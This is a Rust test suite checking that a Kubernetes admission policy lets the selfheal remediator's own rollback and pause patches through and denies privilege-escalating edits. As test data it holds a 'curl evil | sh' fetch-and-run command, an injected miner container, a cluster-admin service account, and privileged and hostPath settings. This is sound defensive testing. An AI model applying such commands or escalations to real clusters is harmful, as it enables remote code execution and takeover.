//! deploy/admission-policy.yaml, which bounds what the handlers' identity may
//! change: the CEL of the ValidatingAdmissionPolicy, evaluated with the `cel`
//! crate the way the API server evaluates it for an UPDATE: match conditions
//! first (a false one means the policy does not apply), then the variables
//! (an expression that errors leaves its variable unset, so only validations
//! that use it fail, as with the API server's lazy variables), then every
//! validation; a validation that errors denies (`failurePolicy: Fail`).
//!
//! The (old, new) pairs come from selfheal itself: `selfheal_core::decide` on
//! the example snapshot's Deployment (`examples/checkout-snapshot.yaml`, a
//! real API server's objects) for every action, with the JSON Patch applied by
//! `json-patch` as the API server applies it. Each must pass. Hand-made
//! patches for what a stolen handler role would try (service account,
//! privileged securityContext, command, env, a new container, labels, owner
//! references, replicas) must be denied with the validation that names them,
//! an unlabelled object must be denied, and another group's request must not
//! be matched at all.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;
use std::sync::Arc;

use cel::{Context, Env, Program, Value as Cel};
use k8s_openapi::api::apps::v1::{Deployment, ReplicaSet};
use selfheal_core::{Decision, PlanInput, Policy, RemediationRequest};
use selfheal_tests::tools::workspace_root;
use serde_json::{Value, json};

const GROUP: &str = "selfheal-remediators";
const POLICY_NAME: &str = "selfheal-remediator-scope";

/// The policy's expressions, compiled.
struct AdmissionPolicy {
    env: Arc<Env>,
    match_conditions: Vec<(String, Program)>,
    variables: Vec<(String, Program)>,
    validations: Vec<(String, Program)>,
}

#[derive(Debug, PartialEq)]
enum Verdict {
    /// A match condition is false: the policy does not apply.
    NotMatched,
    Allowed,
    /// The messages of the failed validations.
    Denied(Vec<String>),
}

impl Verdict {
    fn assert_denied_by(&self, fragment: &str) {
        match self {
            Verdict::Denied(messages) => assert!(
                messages.iter().any(|m| m.contains(fragment)),
                "denied, but not by {fragment:?}: {messages:?}"
            ),
            other => panic!("expected a denial by {fragment:?}, got {other:?}"),
        }
    }
}

fn policy_documents() -> Vec<Value> {
    let text = std::fs::read_to_string(workspace_root().join("deploy/admission-policy.yaml"))
        .expect("deploy/admission-policy.yaml");
    text.split("\n---\n")
        .map(|doc| serde_saphyr::from_str(doc).unwrap())
        .collect()
}

fn load() -> AdmissionPolicy {
    let docs = policy_documents();
    let policy = docs
        .iter()
        .find(|d| d["kind"] == "ValidatingAdmissionPolicy")
        .expect("a ValidatingAdmissionPolicy");
    let env = Arc::new(Env::stdlib());
    let compile = |what: &str, expression: &Value| -> Program {
        let source = expression.as_str().unwrap();
        env.compile(source)
            .unwrap_or_else(|e| panic!("{what}: {source}: {e:?}"))
    };
    let named = |list: &Value, key: &str| -> Vec<(String, Program)> {
        list.as_array()
            .unwrap()
            .iter()
            .map(|item| {
                let label = item[key].as_str().unwrap().to_owned();
                (label.clone(), compile(&label, &item["expression"]))
            })
            .collect()
    };
    let spec = &policy["spec"];
    AdmissionPolicy {
        match_conditions: named(&spec["matchConditions"], "name"),
        variables: named(&spec["variables"], "name"),
        validations: named(&spec["validations"], "message"),
        env,
    }
}

fn request(operation: &str, resource: &str, groups: &[&str]) -> Value {
    json!({
        "operation": operation,
        "resource": { "group": "apps", "version": "v1", "resource": resource },
        "userInfo": {
            "username": "arn:aws:sts::123456789012:assumed-role/selfheal-handler/selfheal-rollback",
            "groups": groups,
        },
    })
}

impl AdmissionPolicy {
    fn admit(&self, request: &Value, old: Option<&Value>, new: Option<&Value>) -> Verdict {
        let mut ctx = Context::with_env(Arc::clone(&self.env));
        let bind = |v: Option<&Value>| cel::to_value(v.unwrap_or(&Value::Null)).unwrap();
        ctx.add_variable_from_value("request", cel::to_value(request).unwrap());
        ctx.add_variable_from_value("oldObject", bind(old));
        ctx.add_variable_from_value("object", bind(new));
        for (name, program) in &self.match_conditions {
            match program.execute(&ctx) {
                Ok(Cel::Bool(true)) => {}
                Ok(Cel::Bool(false)) => return Verdict::NotMatched,
                other => {
                    return Verdict::Denied(vec![format!("match condition {name}: {other:?}")]);
                }
            }
        }
        let mut variables: HashMap<String, Cel> = HashMap::new();
        for (name, program) in &self.variables {
            ctx.add_variable_from_value("variables", variables.clone());
            if let Ok(value) = program.execute(&ctx) {
                variables.insert(name.clone(), value);
            }
        }
        ctx.add_variable_from_value("variables", variables);
        let denied: Vec<String> = self
            .validations
            .iter()
            .filter_map(|(message, program)| match program.execute(&ctx) {
                Ok(Cel::Bool(true)) => None,
                Ok(Cel::Bool(false)) => Some(message.clone()),
                other => Some(format!("{message} (error: {other:?})")),
            })
            .collect();
        if denied.is_empty() {
            Verdict::Allowed
        } else {
            Verdict::Denied(denied)
        }
    }

    /// An UPDATE of a Deployment by the handlers' group.
    fn update(&self, old: &Value, new: &Value) -> Verdict {
        self.admit(
            &request("UPDATE", "deployments", &[GROUP, "system:authenticated"]),
            Some(old),
            Some(new),
        )
    }
}

/// The example snapshot: the Deployment (JSON, as the API server stores it)
/// and its ReplicaSets.
fn snapshot() -> (Value, Vec<ReplicaSet>) {
    let text =
        std::fs::read_to_string(workspace_root().join("examples/checkout-snapshot.yaml")).unwrap();
    let list: Value = serde_saphyr::from_str(&text).unwrap();
    let items = list["items"].as_array().unwrap();
    let deployment = items
        .iter()
        .find(|i| i["kind"] == "Deployment")
        .unwrap()
        .clone();
    let replica_sets = items
        .iter()
        .filter(|i| i["kind"] == "ReplicaSet")
        .map(|i| serde_json::from_value(i.clone()).unwrap())
        .collect();
    (deployment, replica_sets)
}

/// What the API server hands the policy after selfheal's patch: the patch
/// applied, the generation bumped (a spec or annotation change).
fn after_plan(old: &Value, replica_sets: &[ReplicaSet], request: Value) -> Value {
    after_plan_with(&Policy::default(), old, replica_sets, request)
}

fn after_plan_with(
    policy: &Policy,
    old: &Value,
    replica_sets: &[ReplicaSet],
    request: Value,
) -> Value {
    let request: RemediationRequest = serde_json::from_value(request).unwrap();
    let request = selfheal_core::ValidRequest::new(request).unwrap();
    let deployment: Deployment = serde_json::from_value(old.clone()).unwrap();
    let decision = selfheal_core::decide(PlanInput {
        request: &request,
        workload: (&deployment).into(),
        replica_sets,
        controller_revisions: &[],
        pods: &[],
        policy,
        now: "2026-12-01T08:00:00Z".parse().unwrap(),
    })
    .unwrap();
    let Decision::Apply(plan) = decision else {
        panic!("expected a patch for {request:?}, got {decision:?}");
    };
    let mut new = old.clone();
    json_patch::patch(&mut new, &plan.patch).unwrap();
    let generation = new["metadata"]["generation"].as_i64().unwrap();
    new["metadata"]["generation"] = json!(generation + 1);
    new["metadata"]["resourceVersion"] = json!("9999");
    new
}

fn target() -> Value {
    json!({ "cluster": "prod-eks", "namespace": "shop", "deployment": "checkout" })
}

/// A remediation request for `action` on [`target`], plus the `extra` fields.
fn remediation(action: &str, extra: &[(&str, Value)]) -> Value {
    let mut request = json!({ "action": action, "target": target() });
    for (key, value) in extra {
        request[*key] = value.clone();
    }
    request
}

/// `edit` applied to a copy of `old`.
fn changed(old: &Value, edit: impl FnOnce(&mut Value)) -> Value {
    let mut new = old.clone();
    edit(&mut new);
    new
}

fn paused_by_selfheal(deployment: &Value) -> Value {
    changed(deployment, |d| {
        d["spec"]["paused"] = json!(true);
        d["metadata"]["annotations"]["selfheal.dev/paused-by"] = json!("selfheal");
    })
}

fn pod_spec(d: &mut Value) -> &mut Value {
    &mut d["spec"]["template"]["spec"]
}

#[test]
fn the_file_is_a_policy_and_a_binding_for_the_group_on_workload_updates() {
    let docs = policy_documents();
    let policy = docs
        .iter()
        .find(|d| d["kind"] == "ValidatingAdmissionPolicy")
        .unwrap();
    assert_eq!(policy["apiVersion"], "admissionregistration.k8s.io/v1");
    assert_eq!(policy["metadata"]["name"], POLICY_NAME);
    assert_eq!(policy["spec"]["failurePolicy"], "Fail");
    let rules = &policy["spec"]["matchConstraints"]["resourceRules"][0];
    assert_eq!(rules["apiGroups"], json!(["apps"]));
    assert_eq!(
        rules["resources"],
        json!(["deployments", "statefulsets", "daemonsets"])
    );
    for operation in ["CREATE", "UPDATE", "DELETE"] {
        assert!(
            rules["operations"]
                .as_array()
                .unwrap()
                .contains(&json!(operation)),
            "{operation} not matched"
        );
    }
    let binding = docs
        .iter()
        .find(|d| d["kind"] == "ValidatingAdmissionPolicyBinding")
        .unwrap();
    assert_eq!(binding["spec"]["policyName"], POLICY_NAME);
    assert_eq!(binding["spec"]["validationActions"], json!(["Deny"]));
    // The group the policy names is the one rbac.yaml binds.
    let rbac = std::fs::read_to_string(workspace_root().join("deploy/rbac.yaml")).unwrap();
    assert!(rbac.contains(&format!("name: {GROUP}")));
    assert!(
        policy["spec"]["matchConditions"][0]["expression"]
            .as_str()
            .unwrap()
            .contains(&format!("'{GROUP}'"))
    );
}

#[test]
fn every_patch_selfheals_planners_produce_is_allowed() {
    let policy = load();
    let (deployment, replica_sets) = snapshot();
    let paused = paused_by_selfheal(&deployment);
    let paused_by_someone = changed(&deployment, |d| d["spec"]["paused"] = json!(true));
    let with_pod_annotations = changed(&deployment, |d| {
        d["spec"]["template"]["metadata"]["annotations"] =
            json!({ "kubectl.kubernetes.io/restartedAt": "2026-11-30T10:00:00Z", "team": "shop" });
    });
    let cases: Vec<(&str, &Value, Value)> = vec![
        (
            "half-brick rollback",
            &deployment,
            remediation("rollback", &[]),
        ),
        (
            "half-brick rollback of the sidecar",
            &deployment,
            json!({ "action": "rollback", "target": { "namespace": "shop", "deployment": "checkout", "container": "envoy" } }),
        ),
        (
            "rollback that lifts selfheal's pause",
            &paused,
            remediation("rollback", &[]),
        ),
        ("pause", &deployment, remediation("pause", &[])),
        ("resume", &paused, remediation("resume", &[])),
        (
            "forced resume of someone else's pause",
            &paused_by_someone,
            remediation("resume", &[("force", json!(true))]),
        ),
        (
            "restart of a template without annotations",
            &deployment,
            remediation("restart", &[]),
        ),
        (
            "restart of a template with annotations",
            &with_pod_annotations,
            remediation("restart", &[]),
        ),
        (
            "dry-run rollback",
            &deployment,
            remediation("rollback", &[("dryRun", json!(true))]),
        ),
    ];
    for (what, old, request) in cases {
        let new = after_plan(old, &replica_sets, request);
        assert_ne!(
            &new["spec"], &old["spec"],
            "{what}: the patch changes the spec"
        );
        assert_eq!(policy.update(old, &new), Verdict::Allowed, "{what}");
    }
}

#[test]
fn template_scope_rollbacks_need_the_objects_own_opt_in_label() {
    let policy = load();
    let (deployment, replica_sets) = snapshot();
    let undo = remediation(
        "rollback",
        &[("scope", json!("template")), ("toRevision", json!(1))],
    );

    let new = after_plan(&deployment, &replica_sets, undo.clone());
    policy
        .update(&deployment, &new)
        .assert_denied_by("selfheal.dev/allow-template-rollback=true");

    let opted_in = changed(&deployment, |d| {
        d["metadata"]["labels"]["selfheal.dev/allow-template-rollback"] = json!("true");
    });
    let new = after_plan(&opted_in, &replica_sets, undo);
    assert_eq!(policy.update(&opted_in, &new), Verdict::Allowed);

    // The documented price: the whole template is open for such an object ...
    let privileged = changed(&opted_in, |d| {
        pod_spec(d)["serviceAccountName"] = json!("cluster-admin");
    });
    assert_eq!(policy.update(&opted_in, &privileged), Verdict::Allowed);
    // ... and nothing else: labels and other spec fields stay frozen.
    let relabelled = changed(&new, |d| {
        d["metadata"]["labels"]
            .as_object_mut()
            .unwrap()
            .remove("selfheal.dev/allow-template-rollback");
    });
    policy
        .update(&opted_in, &relabelled)
        .assert_denied_by("may not change labels");
    let scaled = changed(&new, |d| d["spec"]["replicas"] = json!(50));
    policy
        .update(&opted_in, &scaled)
        .assert_denied_by("may only change spec.paused");
}

#[test]
fn init_container_images_may_change_and_nothing_else_in_them() {
    let policy = load();
    let (deployment, _) = snapshot();
    let old = changed(&deployment, |d| {
        pod_spec(d)["initContainers"] = json!([{
            "name": "migrate",
            "image": "registry.example/shop/migrate:1.2.0",
            "command": ["/migrate", "up"],
            "imagePullPolicy": "IfNotPresent",
            "terminationMessagePath": "/dev/termination-log",
            "terminationMessagePolicy": "File",
        }]);
    });
    let image = changed(&old, |d| {
        pod_spec(d)["initContainers"][0]["image"] = json!("registry.example/shop/migrate:1.1.0");
    });
    assert_eq!(policy.update(&old, &image), Verdict::Allowed);
    let command = changed(&old, |d| {
        pod_spec(d)["initContainers"][0]["command"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    });
    command_denied(&policy.update(&old, &command));
    let removed = changed(&old, |d| {
        pod_spec(d)
            .as_object_mut()
            .unwrap()
            .remove("initContainers");
    });
    command_denied(&policy.update(&old, &removed));
}

/// A hand-made change to an object.
type Edit = Box<dyn FnOnce(&mut Value)>;

fn command_denied(verdict: &Verdict) {
    verdict.assert_denied_by("may only change container and init-container images");
}

#[test]
fn what_a_stolen_handler_role_would_change_is_denied() {
    let policy = load();
    let (deployment, replica_sets) = snapshot();
    // Each on top of a legitimate rollback, so only the extra change is at fault.
    let rollback = after_plan(&deployment, &replica_sets, remediation("rollback", &[]));
    let template = "may only change container and init-container images";
    let cases: Vec<(&str, Edit, &str)> = vec![
        (
            "service account",
            Box::new(|d| pod_spec(d)["serviceAccountName"] = json!("kube-system-admin")),
            template,
        ),
        (
            "privileged securityContext",
            Box::new(|d| {
                pod_spec(d)["containers"][0]["securityContext"] = json!({ "privileged": true });
            }),
            template,
        ),
        (
            "pod securityContext",
            Box::new(|d| pod_spec(d)["securityContext"] = json!({ "runAsUser": 0 })),
            template,
        ),
        (
            "hostPath volume",
            Box::new(|d| {
                pod_spec(d)["volumes"] = json!([{ "name": "root", "hostPath": { "path": "/" } }]);
            }),
            template,
        ),
        (
            "command",
            Box::new(|d| {
                pod_spec(d)["containers"][0]["command"] =
                    json!(["/bin/sh", "-c", "curl evil | sh"]);
            }),
            template,
        ),
        (
            "env",
            Box::new(|d| {
                pod_spec(d)["containers"][1]["env"][0]["value"] = json!("debug");
            }),
            template,
        ),
        (
            "an injected container",
            Box::new(|d| {
                pod_spec(d)["containers"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({ "name": "miner", "image": "evil/miner" }));
            }),
            template,
        ),
        (
            "containers reordered",
            Box::new(|d| pod_spec(d)["containers"].as_array_mut().unwrap().reverse()),
            template,
        ),
        (
            "a pod template annotation",
            Box::new(|d| {
                d["spec"]["template"]["metadata"]["annotations"] =
                    json!({ "iam.amazonaws.com/role": "admin" });
            }),
            template,
        ),
        (
            "pod template labels",
            Box::new(|d| d["spec"]["template"]["metadata"]["labels"]["app"] = json!("payments")),
            template,
        ),
        (
            "replicas",
            Box::new(|d| d["spec"]["replicas"] = json!(0)),
            "may only change spec.paused",
        ),
        (
            "selector",
            Box::new(|d| d["spec"]["selector"]["matchLabels"]["app"] = json!("x")),
            "may only change spec.paused",
        ),
        (
            "the opt-in label",
            Box::new(|d| d["metadata"]["labels"]["selfheal.dev/enabled"] = json!("false")),
            "may not change labels",
        ),
        (
            "the template-rollback label",
            Box::new(|d| {
                d["metadata"]["labels"]["selfheal.dev/allow-template-rollback"] = json!("true");
            }),
            "may not change labels",
        ),
        (
            "an owner reference (garbage collection would delete it)",
            Box::new(|d| {
                d["metadata"]["ownerReferences"] = json!([{
                    "apiVersion": "v1", "kind": "ConfigMap", "name": "gone",
                    "uid": "00000000-0000-0000-0000-000000000000",
                }]);
            }),
            "may not change labels",
        ),
        (
            "a finalizer",
            Box::new(|d| d["metadata"]["finalizers"] = json!(["example.com/never"])),
            "may not change labels",
        ),
        (
            "another annotation",
            Box::new(|d| {
                d["metadata"]["annotations"]["argocd.argoproj.io/sync-options"] =
                    json!("Prune=false");
            }),
            "may only change selfheal.dev/*",
        ),
        (
            "a removed annotation",
            Box::new(|d| {
                d["metadata"]["annotations"]
                    .as_object_mut()
                    .unwrap()
                    .remove("deployment.kubernetes.io/revision");
            }),
            "may only change selfheal.dev/*",
        ),
    ];
    for (what, edit, denied_by) in cases {
        let mut new = rollback.clone();
        edit(&mut new);
        match policy.update(&deployment, &new) {
            Verdict::Denied(messages) => assert!(
                messages.iter().any(|m| m.contains(denied_by)),
                "{what}: denied, but not by {denied_by:?}: {messages:?}"
            ),
            other => panic!("{what}: expected a denial, got {other:?}"),
        }
    }
    // The annotations selfheal may write, by hand: allowed.
    let annotated = changed(&rollback, |d| {
        d["metadata"]["annotations"]["kubernetes.io/change-cause"] = json!("selfheal rollback");
        d["metadata"]["annotations"]["selfheal.dev/anything"] = json!("x");
    });
    assert_eq!(policy.update(&deployment, &annotated), Verdict::Allowed);
}

#[test]
fn objects_without_the_opt_in_label_are_denied() {
    let policy = load();
    let (deployment, replica_sets) = snapshot();
    for label in [None, Some("false"), Some("True")] {
        let old = changed(&deployment, |d| match label {
            None => {
                d["metadata"]["labels"]
                    .as_object_mut()
                    .unwrap()
                    .remove("selfheal.dev/enabled");
            }
            Some(value) => d["metadata"]["labels"]["selfheal.dev/enabled"] = json!(value),
        });
        // Exactly selfheal's rollback patch (planned without the opt-in
        // requirement, as with SELFHEAL_REQUIRE_OPT_IN=false).
        let no_opt_in = Policy {
            require_opt_in: false,
            ..Policy::default()
        };
        let new = after_plan_with(
            &no_opt_in,
            &old,
            &replica_sets,
            remediation("rollback", &[]),
        );
        policy
            .update(&old, &new)
            .assert_denied_by("labelled selfheal.dev/enabled=true");
    }
    // No labels at all.
    let bare = changed(&deployment, |d| {
        d["metadata"].as_object_mut().unwrap().remove("labels");
    });
    let new = changed(&bare, |d| d["spec"]["paused"] = json!(true));
    policy
        .update(&bare, &new)
        .assert_denied_by("labelled selfheal.dev/enabled=true");
}

#[test]
fn create_and_delete_by_the_group_are_denied() {
    let policy = load();
    let (deployment, _) = snapshot();
    let groups = [GROUP];
    policy
        .admit(
            &request("CREATE", "deployments", &groups),
            None,
            Some(&deployment),
        )
        .assert_denied_by("not create or delete");
    policy
        .admit(
            &request("DELETE", "deployments", &groups),
            Some(&deployment),
            None,
        )
        .assert_denied_by("not create or delete");
}

#[test]
fn requests_from_other_groups_are_not_matched() {
    let policy = load();
    let (deployment, _) = snapshot();
    let hijacked = changed(&deployment, |d| {
        pod_spec(d)["serviceAccountName"] = json!("admin");
        d["metadata"]["labels"]
            .as_object_mut()
            .unwrap()
            .remove("selfheal.dev/enabled");
    });
    for groups in [
        &["system:masters", "system:authenticated"][..],
        &["selfheal-remediators-other"][..],
        &[][..],
    ] {
        assert_eq!(
            policy.admit(
                &request("UPDATE", "deployments", groups),
                Some(&deployment),
                Some(&hijacked)
            ),
            Verdict::NotMatched,
            "{groups:?}"
        );
    }
    // The same change by the group is denied: the match condition is what differs.
    assert!(matches!(
        policy.update(&deployment, &hijacked),
        Verdict::Denied(_)
    ));
}

#[test]
fn statefulsets_may_change_their_update_strategy_and_images_only() {
    let policy = load();
    let old = json!({
        "apiVersion": "apps/v1",
        "kind": "StatefulSet",
        "metadata": {
            "name": "db", "namespace": "shop", "generation": 3,
            "labels": { "app": "db", "selfheal.dev/enabled": "true" },
        },
        "spec": {
            "replicas": 3,
            "serviceName": "db",
            "selector": { "matchLabels": { "app": "db" } },
            "updateStrategy": { "type": "RollingUpdate", "rollingUpdate": { "partition": 0 } },
            "template": {
                "metadata": { "labels": { "app": "db" } },
                "spec": { "containers": [{ "name": "db", "image": "registry.example/db:2" }] },
            },
        },
    });
    let statefulset_update = |new: &Value| {
        policy.admit(
            &request("UPDATE", "statefulsets", &[GROUP]),
            Some(&old),
            Some(new),
        )
    };
    let partition = changed(&old, |s| {
        s["spec"]["updateStrategy"]["rollingUpdate"]["partition"] = json!(3);
        s["spec"]["template"]["spec"]["containers"][0]["image"] = json!("registry.example/db:1");
    });
    assert_eq!(statefulset_update(&partition), Verdict::Allowed);
    let paused = changed(&old, |s| s["spec"]["paused"] = json!(true));
    statefulset_update(&paused).assert_denied_by("may only change spec.paused");
    let scaled = changed(&old, |s| s["spec"]["replicas"] = json!(0));
    statefulset_update(&scaled).assert_denied_by("may only change spec.paused");
}
